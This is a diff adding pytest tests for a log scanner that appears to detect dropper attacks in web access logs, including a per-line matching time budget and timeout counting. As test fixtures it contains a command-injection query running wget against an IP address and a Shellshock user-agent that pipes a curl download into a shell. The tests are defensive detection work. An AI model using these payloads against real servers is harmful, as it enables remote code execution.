@@ -12,7 +12,12 @@ import re
 import time
 
 from conftest import combined_line
+from dropscan import match
+from dropscan.decode import MAX_FIELD
+from dropscan.logformat import compile_format
+from dropscan.match import LINE_BUDGET
 
+COMBINED = compile_format("combined")
 NORMAL = combined_line("/index.html")
 
 
@@ -52,3 +57,34 @@ def test_prefilter_is_linear_in_marker_matches(fast_scanner):
     assert hostile_at in got and few_at in got
     assert [s for s in got if s > hostile_at] == [few_at]
     assert set(got) <= set(_starts(chunk))
+
+
+def keyword_soup(sigs, size: int = MAX_FIELD - 64) -> str:
+    """Every signature keyword with arguments and a URL, repeated: every pattern is tried on
+    every view, each taking a good share of its timeout."""
+    unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
+    return (unit * (size // len(unit) + 1))[:size]
+
+
+def test_a_line_has_a_matching_budget(full_scanner, sigs):
+    # three fields of keyword soup used to cost ~10 s (30 s with nested base64 views)
+    soup = keyword_soup(sigs)
+    hostile = combined_line("/?" + soup, ua=soup, referer=soup)
+    attack = combined_line("/?c=;wget http://203.0.113.9/a")
+    t0 = time.perf_counter()
+    r = full_scanner.scan_chunk(hostile + attack, COMBINED, log_file="x")
+    assert time.perf_counter() - t0 < LINE_BUDGET + 5
+    assert (r.lines, r.records, r.rejected) == (2, 2, 0)
+    assert r.timeouts >= 1  # the spent budget is counted, never silent
+    assert [(f.line_no, f.rule_ids[0]) for f in r.findings][-1] == (2, "dropper.wget")
+
+
+def test_a_spent_budget_counts_one_timeout_and_keeps_going(full_scanner, monkeypatch):
+    attack = combined_line("/?c=;wget http://203.0.113.9/a", ua="() { :; }; /bin/sh -c 'curl http://h/x|sh'")
+    monkeypatch.setattr(match, "LINE_BUDGET", 0.0)
+    assert full_scanner.scan_line(attack, COMBINED) == (None, 1)
+    r = full_scanner.scan_chunk(attack * 3, COMBINED, log_file="x")
+    assert (r.lines, r.records, r.timeouts, r.findings) == (3, 3, 3, [])
+    monkeypatch.setattr(match, "LINE_BUDGET", 1.0)
+    finding, timeouts = full_scanner.scan_line(attack, COMBINED)
+    assert timeouts == 0 and set(finding.rule_ids) >= {"dropper.wget", "dropper.curl", "shellshock.command"}
